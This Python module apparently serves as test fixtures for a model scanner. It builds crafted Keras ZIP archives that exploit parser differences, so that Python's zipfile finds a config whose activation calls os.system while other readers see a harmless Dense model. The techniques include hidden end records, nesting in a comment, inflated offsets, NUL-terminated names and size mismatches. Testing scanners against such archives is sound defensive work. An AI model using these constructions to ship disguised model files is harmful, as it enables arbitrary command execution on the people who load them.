"""Archives in which Python's zipfile, and so Keras, finds another model than most readers do."""

from __future__ import annotations

import json
import struct
import zlib
from typing import Any

from model_files import METADATA, weights_bytes

from hostile.places import PLACES, layer, sequential
from hostile.triggers import function

EVIL = PLACES["activation"](function("os", "system"))[0]
HONEST = sequential(layer("Dense", units=2))
META, WEIGHTS = json.dumps(METADATA).encode(), weights_bytes()


def members(config: bytes, **more: bytes) -> dict[str, bytes]:
    return {"metadata.json": META, "config.json": config, "model.weights.h5": WEIGHTS, **more}


def text(value: Any = EVIL) -> bytes:
    return json.dumps(value).encode()


Listed = list[tuple[bytes, bytes]]
GOOD: Listed = [(name.encode(), data) for name, data in members(text(HONEST)).items()]
BAD: Listed = [(name.encode(), data) for name, data in members(text(EVIL)).items()]
REACH = 1 << 16  # bytes behind the end record within which zipfile finds it


def built(
    listed: Listed, before: int = 0, count: int | None = None, comment: bytes = b"", declared: int = 0, deflated: bool = False
) -> bytes:
    """An archive for a place behind so many bytes, whose config declares so many bytes more than it has."""
    body = directory = b""
    for name, data in listed:
        packed = zlib.compress(data)[2:-4] if deflated else data
        size = len(data) + (declared if name == b"config.json" else 0)
        about = struct.pack("<5H3L2H", 20, 0, 8 * deflated, 0, 33, zlib.crc32(data), len(packed), size, len(name), 0)
        directory += b"PK\1\2\x14\0" + about + struct.pack("<3H2L", 0, 0, 0, 0, before + len(body)) + name
        body += b"PK\3\4" + about + name + packed
    held = len(listed) if count is None else count
    return (
        body + directory + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, held, held, len(directory), before + len(body), len(comment)) + comment
    )


HIDDEN = built(GOOD)
ARCHIVES = {
    "of no members, by its end record": HIDDEN + built(BAD, len(HIDDEN), count=0),
    "as far from the end as zipfile looks": HIDDEN + built(BAD, len(HIDDEN)) + b"\0" * REACH,
    "in the comment of an honest one": built(GOOD, comment=built(BAD)),
    "that states its places too high": HIDDEN[:-22] + built(BAD, len(HIDDEN) + 100_000),
    "with a name that ends in a NUL": built([*GOOD, (b"config.json\0.txt", text(EVIL))]),
    "with a member that declares more than it holds": built(BAD, declared=10),
    "with a deflated member that declares more than it holds": built(BAD, declared=10, deflated=True),
}
